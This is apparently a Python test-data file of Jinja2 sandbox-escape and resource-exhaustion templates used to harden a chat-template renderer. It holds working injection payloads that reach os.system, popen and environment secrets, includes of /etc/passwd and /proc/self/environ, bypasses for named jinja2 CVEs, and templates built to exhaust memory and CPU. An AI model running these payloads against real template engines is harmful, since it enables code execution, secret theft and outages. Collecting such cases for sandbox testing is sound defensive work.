"""Templates that try to escape the sandbox, and templates that try to exhaust the machine.

Data only: name → source. CANARY is a file that some try to make, SECRET a variable of the
environment that some try to print. Known ways come from jinja2's security advisories, from the
payload lists that testers of web pages use, and from reading what the sandbox is made of.
"""

from __future__ import annotations

CANARY, SECRET = "canary-file", "CULLAMA_SECRET"

_OS = "__import__('os').system('touch canary-file')"
_NAMES = {"cc": "__class__", "mm": "__mro__", "ss": "__subclasses__"}

INJECTIONS: dict[str, str] = {
    # walks along attributes
    "class of a text": "{{ ''.__class__ }}",
    "class of a list": "{{ [].__class__ }}",
    "class of a dict": "{{ {}.__class__.__base__ }}",
    "class of a number": "{{ (1).__class__ }}",
    "class of none": "{{ none.__class__ }}",
    "class of messages": "{{ messages.__class__.__mro__ }}",
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "bases": "{{ ''.__class__.__bases__[0].__subclasses__()[0] }}",
    "item for attribute": "{{ ''['__class__']['__mro__'][1]['__subclasses__']() }}",
    "item of a message": "{{ messages[0]['__class__'] }}",
    "escaped name": r"{{ ''['\x5f\x5fclass\x5f\x5f'] }}",
    "unicode escaped name": r"{{ ''['\u005f\u005fclass\u005f\u005f'] }}",
    "joined name": "{{ ''[['__cl', 'ass__'] | join] }}",
    "added name": "{{ ''['__cl' + 'ass__'] }}",
    "tilde name": "{{ ''['__cl' ~ 'ass__'] }}",
    "reversed name": "{{ ''['__ssalc__'[::-1]] }}",
    "reversed by filter": "{{ ''['__ssalc__' | reverse] }}",
    "lowered name": "{{ ''['__CLASS__' | lower] }}",
    "replaced name": "{{ ''['xxclassxx' | replace('xx', '__')] }}",
    "formatted name": "{{ ''['%s' | format('__class__')] }}",
    "name in a message": "{{ ''[messages[0].role ~ '__class__'] }}",
    "method of a text": "{{ ''.upper.__self__.__class__ }}",
    "method's function": "{{ 'a'.join.__class__ }}",
    "method of a dict": "{{ {}.items.__self__.__class__ }}",
    "doc": "{{ ''.__doc__ }}",
    "dir": "{{ ''.__dir__() }}",
    "reduce": "{{ ''.__reduce_ex__(2) }}",
    "getattribute": "{{ ''.__getattribute__('__class__') }}",
    "init subclass": "{{ (1).__init_subclass__ }}",
    "encode": "{{ 'a'.encode('utf-8').__class__ }}",
    "bytes": "{{ 'a'.encode('utf-16') }}",
    "number's methods": "{{ (1).to_bytes(4, 'big') }}",
    "bit length": "{{ (1).bit_length.__self__.__class__ }}",
    # functions and what jinja2 itself puts in reach
    "globals of a function": "{{ raise_exception.__globals__ }}",
    "globals of strftime": "{{ strftime_now.__globals__['os'] }}",
    "closure": "{{ strftime_now.__closure__ }}",
    "code": "{{ range.__call__.__code__ }}",
    "run of a function": "{{ namespace.run.__globals__ }}",
    "namespace's init": "{{ namespace.__init__.__globals__['__builtins__'] }}",
    "namespace's class": "{{ namespace().__class__.__mro__ }}",
    "namespace's attributes": "{{ namespace(a=1)._Namespace__attrs }}",
    "lipsum": f"{{{{ lipsum.__globals__['os'].system('touch {CANARY}') }}}}",
    "lipsum's environment": f"{{{{ lipsum.__globals__['os'].environ['{SECRET}'] }}}}",
    "cycler": f"{{{{ cycler.__init__.__globals__.os.popen('touch {CANARY}').read() }}}}",
    "joiner": f"{{{{ joiner.__init__.__globals__.os.system('touch {CANARY}') }}}}",
    "undefined": f'{{{{ x.__init__.__globals__["__builtins__"]["eval"]("{_OS}") }}}}',
    "undefined's class": "{{ x.__class__ }}",
    "undefined's function": "{{ x._fail_with_undefined_error.__globals__ }}",
    "undefined's exception": "{{ x._undefined_exception }}",
    "dict's class": "{{ dict.__class__ }}",
    "dict's mro": "{{ dict.mro() }}",
    "dict fromkeys": "{{ dict.fromkeys.__self__ }}",
    "macro": "{% macro m() %}{% endmacro %}{{ m.__call__.__globals__ }}",
    "macro's environment": "{% macro m() %}{% endmacro %}{{ m._environment }}",
    "macro's function": "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "macro, printed": "{% macro m() %}{% endmacro %}{{ m }}",
    "caller": "{% macro m() %}{{ caller.__class__ }}{% endmacro %}{% call m() %}{% endcall %}",
    "caller's function": "{% macro m() %}{{ caller._func }}{% endmacro %}"
    "{% call m() %}{% endcall %}",
    "loop": "{% for i in [1] %}{{ loop.__class__ }}{% endfor %}",
    "loop's globals": "{% for i in [1] %}{{ loop.cycle.__globals__ }}{% endfor %}",
    "loop's inside": "{% for i in [1] %}{{ loop._iterator }}{% endfor %}",
    "loop, printed": "{% for i in [1] %}{{ loop }}{% endfor %}",
    "self": "{{ self._TemplateReference__context }}",
    "self, printed": "{{ self }}",
    "self's environment": "{{ self.__init__.__globals__ }}",
    "super": "{% block a %}{{ super }}{% endblock %}",
    "a function, printed": "{{ range }}",
    "a method, printed": "{{ ''.upper }}",
    "a generator, printed": "{{ [1] | map('string') }}",
    "a generator's frame": "{{ ([1] | map('string')).gi_frame.f_globals }}",
    "a generator's code": "{{ ([1] | select)['gi_code'] }}",
    "items' mapping": "{{ {}.items().mapping }}",
    "environment": "{{ environment }}{{ context }}{{ __builtins__ }}{{ request }}{{ config }}",
    "builtins by name": "{{ eval('1') }}{{ open('x', 'w') }}{{ __import__('os') }}",
    # texts that format
    "format's attribute": "{{ '{0.__class__}'.format('') }}",
    "format's item": "{{ '{0[0]}'.format(messages) }}",
    "format's name": "{{ '{a.__class__.__mro__}'.format(a=1) }}",
    "format's globals": "{{ '{0.__globals__}'.format(raise_exception) }}",
    "format's conversion": "{{ '{0!r}'.format(range) }}",
    "format's width from a value": "{{ '{0:{1.__class__}}'.format('a', 'b') }}",
    "format of a function": "{{ '{}'.format(namespace) }}",
    "format_map": "{{ '{a.__class__}'.format_map({'a': 1}) }}",
    "format as item": "{{ ''['format'] }}{{ '{0.__class__}'['format'](1) }}",
    "format by a variable": "{% set f = '{0.__class__}'.format %}{{ f(1) }}",
    "percent of a function": "{{ '%s' % range }}",
    "percent r": "{{ '%r' % (namespace,) }}",
    "format filter of a function": "{{ '%s' | format(strftime_now) }}",
    # CVE-2024-56326: a stored reference to str.format, called through a filter
    "CVE-2024-56326": "{{ ['{0.__class__}'.format] | map('upper') | list }}",
    "CVE-2024-56326, called": "{% macro m(f) %}{{ f(1) }}{% endmacro %}"
    "{{ m('{0.__class__}'.format) }}",
    # CVE-2025-27516: |attr reaches str.format behind the sandbox's back
    "CVE-2025-27516": "{{ ('{0.__class__}' | attr('format'))(1) }}",
    "CVE-2025-27516, mapped": "{{ ['{0.__class__}'] | map('attr', 'format') | list }}",
    # CVE-2024-56201: what a filter's name becomes in compiled code
    "CVE-2024-56201": "{% if false %}{{ '' | a.b.c.__class__ }}{% endif %}{{ ''.__class__ }}",
    # CVE-2024-22195, CVE-2024-34064: keys that become markup
    "xmlattr": "{{ {'a onclick': '1'} | xmlattr }}{{ ''.__class__ }}",
    # CVE-2019-10906: str.format_map
    "CVE-2019-10906": "{{ '{x.__class__.__mro__}'.format_map(dict(x=1)) }}",
    # filters and tests
    "attr": "{{ '' | attr('__class__') }}",
    "attr, joined": "{{ '' | attr(['__cl', 'ass__'] | join) }}",
    "map attribute": "{{ [''] | map(attribute='__class__') | list }}",
    "map attributes": "{{ [''] | map(attribute='__class__.__mro__') | list }}",
    "map attr": "{{ [''] | map('attr', '__class__') | list }}",
    "map of map": "{{ [['']] | map('map', attribute='__class__') | map('list') | list }}",
    "sum attribute": "{{ [''] | sum(attribute='__class__') }}",
    "sort attribute": "{{ ['a', 'b'] | sort(attribute='__class__') }}",
    "min attribute": "{{ ['a', 'b'] | min(attribute='__doc__') }}",
    "unique attribute": "{{ ['a'] | unique(attribute='__class__') | list }}",
    "join attribute": "{{ ['a'] | join(attribute='__class__') }}",
    "groupby": "{{ ['a'] | groupby('__class__') }}",
    "selectattr": "{{ [''] | selectattr('__class__') | list }}",
    "selectattr of a walk": "{{ [''] | selectattr('__class__.__mro__', 'defined') | list }}",
    "pprint": "{{ range | pprint }}",
    "string": "{{ range | string }}",
    "tojson of a function": "{{ range | tojson }}",
    "tojson of a namespace": "{{ namespace() | tojson }}",
    "list of a function": "{{ [range] | string }}",
    "join of functions": "{{ [range, dict] | join }}",
    "default": "{{ x | default(range) }}",
    "random": "{{ [range] | random }}",
    "urlize": "{{ 'http://a' | urlize(rel=''.__class__) }}",
    "a word that is not spoken": "{{ 1 | the cost }}",
    "a word that is not spoken, mapped": "{{ [-1000000] | map('the cost') | list }}",
    "a word for comparing": "{{ [1] | map('the comparison', '__class__', 1) | list }}",
    # writing where nothing may be written
    "namespace's dunder": "{% set n = namespace() %}{% set n.__class__ = 1 %}{{ n.__class__ }}",
    "namespace's dunder by name": "{{ namespace(**{'__class__': 1}) }}",
    "namespace's dunder by pairs": "{{ namespace([['__init__', 1]]) }}",
    "namespace, printed": "{{ namespace(a=1) }}",
    "clear": "{{ messages.clear() }}{{ messages[0].clear() }}",
    "update": "{{ messages[0].update({'role': 'x'}) }}",
    "setdefault": "{{ messages[0].setdefault('x', 1) }}",
    "insert": "{{ messages.insert(0, 1) }}",
    "setitem": "{{ messages.__setitem__(0, 1) }}",
    "sort in place": "{{ messages.sort() }}",
    # other files
    "include": "{% include '/etc/passwd' %}",
    "include by name": "{% include ['a', '/proc/self/environ'] ignore missing %}{{ ''.__class__ }}",
    "import": "{% import '/etc/passwd' as p %}",
    "from import": "{% from '/etc/passwd' import p %}",
    "extends": "{% extends '/etc/passwd' %}",
    "do": "{% do ''.__class__ %}",
    "debug": "{% debug %}",
    "trans": "{% trans %}a{% endtrans %}",
    "autoescape": "{% autoescape true %}{{ ''.__class__ }}{% endautoescape %}",
    "recursive loop's inside": "{% for i in [[1]] recursive %}{{ loop._recurse }}{% endfor %}",
    "recursive loop over a function": "{% for i in [range] recursive %}{{ loop(i) }}{% endfor %}",
    "cycler's items": "{{ cycler(1).items }}{{ cycler(1).__class__ }}",
    "cycler's method": "{{ cycler(1).next.__self__.__class__ }}",
    "cycler, printed": "{{ cycler(1) }}",
    "cycler of functions": "{{ cycler(range).next() }}",
    "joiner's method": "{{ joiner().__call__.__globals__ }}",
    "joiner, printed": "{{ joiner() }}",
    "joiner of a function": "{% set j = joiner(range) %}{{ j() }}{{ j() }}",
    "group's class": "{{ (messages | groupby('role'))[0]._asdict.__globals__ }}",
    "group's methods": "{{ (messages | groupby('role'))[0]._replace(grouper=range) }}",
    "group of functions": "{{ [range] | groupby('run') }}",
    "markup's class": "{{ ('a' | safe).__class__ }}",
    "markup's function": "{{ ('a' | safe).__html__.__globals__ }}",
    "markup's format": "{{ ('{0.__class__}' | safe).format('') }}",
    "markup's format_map": "{{ ('{a.__class__}' | safe).format_map({'a': 1}) }}",
    "markup's join of functions": "{{ ('' | safe).join([range]) }}",
    "markup of a function": "{{ range | safe }}{{ range | e }}{{ range | forceescape }}",
    "markup and a function": "{{ ('a' | safe) + range }}",
    "markup's percent": "{{ ('%s' | safe) % range }}",
    "markup's percent of a name": "{{ ('%(a)s' | safe) % {'a': range} }}",
    "markup's replace": "{{ ('a' | safe).replace('a', range) }}",
    "format of a function's repr": "{{ '{!r}'.format(range) }}",
    "percent a": "{{ '%a' % (namespace,) }}",
    "attr of a method": "{{ ('' | attr('upper')) | attr('run') }}",
    "attr of a function": "{{ range | attr('run') | attr('__globals__') }}",
    "urlencode of a function": "{{ range | urlencode }}{{ [[range, 1]] | urlencode }}",
    "truncate of a function": "{{ range | truncate }}",
    "pprint of functions": "{{ [range, namespace()] | pprint }}",
    "striptags of a function": "{{ range | striptags }}{{ range | wordcount }}",
    "arguments from a function": "{{ dict(*range) }}{{ dict(**range) }}",
    "arguments of the sandbox": "{{ 'a' | center(**{'context': 1, 'budget': 2}) }}"
    "{{ range(**{'_loop_vars': 1, '__context': 2}) }}",
    "JSON of an object": "{{ range | from_json }}{{ '{' | from_json }}",
    "a list of functions, grown": "{% set q = [] %}{{ q.append(range) }}{{ q }}",
    "recursion": "{% for i in [[1]] recursive %}{{ loop(''.__class__) }}{% endfor %}",
    "block": "{% block __class__ %}{{ self.__class__ }}{% endblock %}",
    # what Python would make of it, were it pasted into a program
    "name like code": "{{ x if 1 else y }}{% set __import__ = 1 %}{{ __import__('os') }}",
    "keyword like code": "{{ dict(lambda=1, import=2)['__class__'] }}",
    "text like code": "{{ \"' + " + _OS + ' + \'" }}{{ "".__class__ }}',
    "comment like code": "{# \n__import__('os').system('touch "
    + CANARY
    + "') #}{{ ''.__class__ }}",
    "line like code": "x\n'''\n" + _OS + "\n'''{{ ''.__class__ }}",
}
# The same walk under names that are put together in three ways.
for _short, _long in _NAMES.items():
    _half = len(_long) // 2
    INJECTIONS |= {
        f"{_long} by set": f"{{% set {_short} = '{_long}' %}}{{{{ ''[{_short}] }}}}",
        f"{_long} by slices": f"{{{{ ''['{_long[:_half]}xx'[:-2] ~ '{_long[_half:]}'] }}}}",
        f"{_long} by capture": f"{{% set {_short} %}}{_long}{{% endset %}}{{{{ ''[{_short}] }}}}",
    }

_GROW = "{% set n = namespace(x=X) %}{% for i in range(100000) %}{% set n.x = Y %}{% endfor %}"


def _grown(start: str, step: str, use: str = "") -> str:
    return _GROW.replace("X", start, 1).replace("Y", step, 1) + use


_LONG = "('a' * 100000)"

RESOURCES: dict[str, str] = {
    # one operation that makes much of little
    "a text, repeated": "{{ 'a' * 10**10 }}",
    "a text, repeated in sets": "{% set a = 'a' * 99999 %}{% set a = a * 99999 %}{{ a }}",
    "a list, repeated": "{{ ([0] * 10**10) | length }}",
    "a tuple, repeated": "{{ ((0,) * 10**9) | length }}",
    "a power": "{{ 9**(9**9) }}",
    "a power of a power": "{{ (10**300)**(10**300) }}",
    "a negative power": "{{ 2 ** -(10**400) }}",
    "a product": _grown("7", "n.x * n.x"),
    "a long number": "{{ " + "9" * 4000 + " * 1 }}",
    "a long hexadecimal": "{{ 0x" + "f" * 100000 + " }}",
    "a width in percent": "{{ '%1000000000d' % 1 }}",
    "a width from a value": "{{ '%*d' % (1000000000, 1) }}",
    "a precision in percent": "{{ '%.1000000000f' % 1 }}",
    "a width in a filter": "{{ '%1000000000s' | format('a') }}",
    "a width in format": "{{ '{:1000000000}'.format(1) }}",
    "a precision in format": "{{ '{:.1000000000f}'.format(1) }}",
    "a nested width": "{{ '{:{}}'.format('a', 1000000000) }}",
    "center": "{{ 'a'.center(3 * 10**8) }}",
    "center by filter": "{{ 'a' | center(3 * 10**8) }}",
    "ljust": "{{ 'a'.ljust(3 * 10**8) }}",
    "rjust": "{{ 'a'.rjust(3 * 10**8, 'b') }}",
    "zfill": "{{ '1'.zfill(3 * 10**8) }}",
    "expandtabs": "{{ '\t'.expandtabs(10**10) }}",
    "replace": f"{{{{ {_LONG}.replace('a', {_LONG}) }}}}",
    "replace nothing": f"{{{{ {_LONG}.replace('', {_LONG}) }}}}",
    "replace by filter": f"{{{{ {_LONG} | replace('a', {_LONG}) }}}}",
    "join": f"{{{{ {_LONG}.join({_LONG}) }}}}",
    "join by filter": f"{{{{ range(100000) | join({_LONG}) }}}}",
    "translate": "{{ 'a'.translate({97: 'b' * 10**9}) }}",
    "indent": "{{ 'a\nb' | indent(10**10) }}",
    "indent of many lines": "{{ ('\n' * 50000) | indent(50000, true, true) }}",
    "indent of a text": f"{{{{ ('\n' * 100000) | indent({_LONG}, true, true) }}}}",
    "tojson's indent of nothing": "{{ [] | tojson(indent=3 * 10**8) }}",
    "tojson's indent": "{{ [[1]] | tojson(indent=10**10) }}",
    "tojson's text indent": f"{{{{ range(1000) | list | tojson(indent={_LONG}) }}}}",
    "tojson's separators": f"{{{{ range(1000) | list | tojson(separators=({_LONG}, ':')) }}}}",
    "wordwrap": f"{{{{ {_LONG} | wordwrap(1, wrapstring={_LONG}) }}}}",
    "a range": "{{ range(10**12) | list }}",
    "a range of ranges": "{{ range(10**5) | map('string') | map('center', 10**5) | join }}",
    "a slice": "{% for i in range(100000) %}{% set x = messages[0].content * 99999 %}"
    "{% set x = x[::-1] %}{% endfor %}",
    "round": "{{ 5 | round(-(10**10)) }}",
    "round up": "{{ 5.5 | round(10**9, 'ceil') }}",
    "the time, widened": "{{ strftime_now('%1000000000Y') }}",
    "the time, often": "{{ strftime_now('%c' * 10**7) }}",
    "a number read": "{{ ('9' * 100000) | int * 2 }}",
    "a number read by base": "{{ ('z' * 1000000) | int(0, 36) }}",
    "batch": "{{ [1] | batch(10**9, 0) | list }}",
    "slices": "{{ [1] | slice(10**9) | list }}",
    "lipsum": "{{ lipsum(n=10**6) }}",
    "wordwrap of a long word": "{{ ('a' * 3000000) | wordwrap(1) }}",
    "wordwrap of many words": "{{ ('a ' * 2000000) | wordwrap(2) }}",
    "wordwrap of hyphens": "{{ ('a-' * 2000000) | wordwrap(80) }}",
    "tags without an end": "{{ ('<!--' * 1000000) | striptags }}",
    "words, counted": "{{ ('a ' * 4000000) | wordcount }}",
    "a URL": "{{ ('🦙' * 1500000) | urlencode }}",
    "markup, escaped again": _grown("'&'", "n.x | forceescape", "{{ n.x }}"),
    "markup, joined": f"{{{{ ('\"' * 100000 | safe).join({_LONG}) }}}}",
    "markup, replaced": "{{ ('a' * 100000 | safe).replace('a', '\"' * 100000) }}",
    "markup, added": _grown("'\"'", "(n.x | safe) + (n.x | string)"),
    "markup, filled": "{{ ('%s' * 1000 | safe) % (('\"' * 100000,) * 1000) }}",
    "markup, formatted": "{{ ('{0}' * 100000 | safe).format('\"' * 100000) }}",
    "a text's repr": "{{ ('{0!r}' * 100000).format('🦙' * 100000) }}",
    "a batch that fills": "{{ ([1] | batch(10**8, 0) | list)[0] | length }}",
    "truncated often": "{% set x = 'a ' * 900000 %}{% for i in range(99999) %}"
    "{% set y = x | truncate(1700000) %}{% endfor %}",
    # many small steps
    "a loop in a loop": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}"
    "{% endfor %}",
    "a loop in a loop that prints": "{% for a in range(99999) %}{% for b in range(99999) %}aaaaaaaa"
    "{% endfor %}{% endfor %}",
    "a filtered loop": "{% for a in range(99999) %}{% for b in range(99999) if b < 0 %}{% endfor %}"
    "{% endfor %}",
    "a loop with a costly condition": "{% for a in range(99999) if "
    + " and ".join(["a is defined"] * 50)
    + " %}{% endfor %}",
    "a macro with a costly default": "{% macro m(a=["
    + "x, " * 3000
    + "]) %}{% endmacro %}{% for a in range(99999) %}{{ m() }}{% endfor %}",
    "a long constant, printed often": "{% for a in range(99999) %}" + "a" * 30000 + "{% endfor %}",
    "a long constant, captured often": "{% macro m() %}"
    + "b" * 30000
    + "{% endmacro %}{% for a in range(99999) %}{% set x = m() %}{% endfor %}",
    "a macro that calls itself": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "a loop that calls itself": "{% for i in [1] recursive %}{{ loop([1]) }}{% endfor %}",
    "a loop that calls itself twice": "{% for i in [1] recursive %}{% if loop.depth < 90 %}"
    "{{ loop([1, 1]) }}{{ loop([1, 1]) }}{% endif %}{% endfor %}",
    "a list that grows while it is read": "{% set q = [1] %}{% for i in q %}"
    "{% set _ = q.append(i) %}{% endfor %}",
    "a list in itself, twice": "{% set q = [] %}{% set _ = q.append(q) %}{% set _ = q.append(q) %}"
    "{{ q | tojson }}",
    "a list in itself, walked": "{% set q = [] %}{% set _ = q.append(q) %}{% set _ = q.append(q) %}"
    "{% for i in q recursive %}{{ loop(i) }}{% endfor %}",
    "a list in itself, printed well": "{% set q = [] %}{% set _ = q.append(q) %}"
    "{% set _ = q.append(q) %}{{ q | pprint }}",
    "a list, popped at its start": "{% set q = [0] * 1000000 %}{% for i in range(99999) %}"
    "{% set _ = q.pop(0) %}{% endfor %}",
    "arguments without end": "{% for i in range(99) %}{{ dict(*range(99999)) }}{% endfor %}"
    "{% macro m() %}{% endmacro %}{% for i in range(99) %}{{ m(*range(99999)) }}{% endfor %}",
    "a cycler of many": "{% for i in range(999) %}{% set c = cycler(*range(9999)) %}{% endfor %}",
    "groups of groups": "{% for i in range(999) %}{% set x = range(9999) | groupby('a') %}"
    "{% endfor %}",
    "lists, printed well": "{% set x = [] %}" + "{% set x = [x, 'a'] %}" * 90 + "{{ x | pprint }}"
    "{% for i in range(999) %}{% set y = x | pprint %}{% endfor %}",
    "many keys, printed well": "{% for i in range(999) %}{% set y = range(9999) | list | pprint %}"
    "{% endfor %}",
    "JSON, read": "{{ ('[' ~ '1,' * 2000000 ~ '1]') | from_json | length }}",
    "JSON in JSON": "{{ ('[' * 100000) | from_json }}",
    "a number in JSON": "{{ ('9' * 150000) | from_json }}",
    "a macro that calls itself twice": "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}"
    "{% endif %}{% endmacro %}{{ m(90) }}",
    "macros in macros": "".join(
        f"{{% macro m{i + 1}() %}}{f'{{{{ m{i}() }}}}' * 10}{{% endmacro %}}" for i in range(12)
    ).replace("{{ m0() }}", "aaaa")
    + "{{ m12() }}",
    "captures in captures": "{% set x %}aaaaaaaa{% endset %}"
    + "{% set x %}{{ x }}{{ x }}{{ x }}{{ x }}{% endset %}" * 30
    + "{{ x }}",
    "a text, doubled": _grown("'a'", "n.x ~ n.x"),
    "a text, added to": _grown("'a'", "n.x + 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'", "{{ n.x }}"),
    "a wide text, added to": _grown("'\U0001f999'", "n.x + n.x"),
    "a list, doubled": _grown("[1]", "n.x + n.x"),
    "a list, looked through": "{% set x = [0] * 1400000 %}{{ x }}",
    "a list, nested": _grown("[]", "[n.x]", "{{ n.x }}"),
    "a list twice in a list, printed": _grown("[]", "[n.x, n.x]", "{{ n.x }}"),
    "a list twice in a list, as JSON": "{% set x = [] %}"
    + "{% set x = [x, x] %}" * 60
    + "{{ x | tojson }}",
    "a list twice in a list, printed soon": "{% set x = [] %}"
    + "{% set x = [x, x] %}" * 60
    + "{{ x }}",
    "a list twice in a list, compared": "{% set x = [] %}{% set y = [] %}"
    + "{% set x = [x, x] %}{% set y = [y, y] %}" * 60
    + "{{ x == y }}",
    "a list twice in a list, looked for": "{% set x = [] %}{% set y = [] %}"
    + "{% set x = [x, x] %}{% set y = [y, y] %}" * 60
    + "{{ x in [y] }}{{ [y].index(x) }}",
    "a tuple twice in a tuple, as key": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ {x: 1} }}",
    "a tuple twice in a tuple, looked up": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ messages[0][x] }}",
    "a tuple twice in a tuple, got": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ messages[0].get(x) }}",
    "a tuple twice in a tuple, unique": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ [x] | unique | list }}",
    "a tuple twice in a tuple, in a dict": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ x in messages[0] }}",
    "a tuple twice in a tuple, a filter's name": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ [1] | map(x) | list }}",
    "a tuple twice in a tuple, a test's name": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ [1] | select(x) | list }}",
    "a tuple twice in a tuple, a way to round": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ 1.5 | round(1, x) }}",
    "a tuple twice in a tuple, a way to sort": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ {1: 2} | dictsort(by=x) }}",
    "a tuple twice in a tuple, a comparison": "{% set x = (1,) %}"
    + "{% set x = (x, x) %}" * 60
    + "{{ [1] | map('the comparison', x, 1) | list }}",
    "a reason of many words": "{{ raise_exception('a ' * 9000000) }}",
    "a name of many words": "{{ messages['a ' * 1500000]['b'] }}",
    "filters on filters without end": _grown("[1]", "n.x | map('string')"),
    "methods of lists of methods": _grown("[1]", "[n.x].index"),
    "what lists do not have": _grown("[1]", "[n.x].foo"),
    "an attribute of many parts": "{% set x = 'a.' * 900000 %}{% for i in range(99999) %}"
    "{% set y = messages | map(attribute=x, default={}) | list %}{% endfor %}",
    "a dict, doubled": "{% set x = {} %}" + "{% set x = {'a': x, 'b': x} %}" * 60 + "{{ x }}",
    "a namespace in itself": "{% set n = namespace() %}{% set n.n = n %}{{ n }}{{ n | string }}",
    "a list that holds its namespace": "{% set n = namespace() %}{% set n.n = [n] %}{{ n.n }}",
    "a search that goes wrong": "{% set a = 'a' * 500000 %}{% set b = 'ab' ~ 'a' * 200000 %}"
    "{% for i in range(1000) %}{{ a.rfind(b) }}{{ b in a }}{% endfor %}",
    "a comparison, often": "{% set a = 'a' * 900000 %}{% set b = 'a' * 900000 %}"
    "{% for i in range(99999) %}{% if a == b %}{% endif %}{% endfor %}",
    "a case, often": "{% set a = 'ΐ' * 900000 %}{% for i in range(99999) %}{% set x = a.upper() %}"
    "{% endfor %}",
    "words, cut": "{% set a = '東 ' * 1400000 %}{% for i in range(999) %}{% set x = a.split() %}"
    "{% endfor %}",
    "characters, cut": "{{ ('a' * 9000000).split('a') | length }}",
    "lines, cut": "{{ ('\n' * 9000000).splitlines() | length }}",
    "characters, listed": "{{ ('a' * 9000000) | list | length }}",
    "titles": "{{ ('a-' * 4000000) | title | length }}",
    "sorting": "{{ (('ab' * 40000) | list | sort) * 100 }}{% for i in range(999) %}"
    "{% set x = range(99999) | sort %}{% endfor %}",
    "filters on filters": "{{ range(99999) " + "| map('string') " * 100 + "| list | length }}",
    "a filter block": "{% filter center(10**10) %}a{% endfilter %}",
    "sums of lists": "{{ [[1] * 9999] * 9999 | sum(start=[]) }}{% set x = [[1] * 999] * 999 %}"
    "{% for i in range(99999) %}{% set y = x | sum(start=[]) %}{% endfor %}",
    # the source itself
    "a long source": "{{ a }}" * 40000,
    "a longer source": "a" * (1 << 21),
    "many names": "".join(
        f"{{% set v{i} = {i} %}}{{% if v{i} %}}{{% endif %}}" for i in range(20000)
    ),
    "brackets in brackets": "{{ " + "(" * 20000 + "1" + ")" * 20000 + " }}",
    "lists in lists": "{{ " + "[" * 20000 + "1" + "]" * 20000 + " }}",
    "a long sum": "{{ " + " + ".join(["1"] * 5000) + " }}",
    "a long chain": "{{ a" + ".a" * 5000 + " }}",
    "a long not": "{{ " + "not " * 5000 + "1 }}",
    "loops in loops": "{% for a in [1, 2] %}" * 200 + "{% endfor %}" * 200,
    "branches in branches": "{% if 1 %}" * 2000 + "{% endif %}" * 2000,
    "filters in a row": "{{ 'a'" + " | upper" * 5000 + " }}",
    "a comment without an end": "{#" + "a" * 100000,
    "a text without an end": "{{ '" + "\\'" * 50000,
    "as many words as are taken, and a loop": "{{a}}" * 2800
    + "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "as many words as are taken, and a text": "{{a}}" * 2800 + "{{ '🦙' * 10**7 }}",
    "many macros": "".join(
        f"{{% macro m{i}() %}}{{% if a %}}{{{{ a }}}}{{% endif %}}{{% endmacro %}}"
        for i in range(500)
    )
    + "{{ 'a' * 10**10 }}",
    "signs": "{%" * 60000,
}
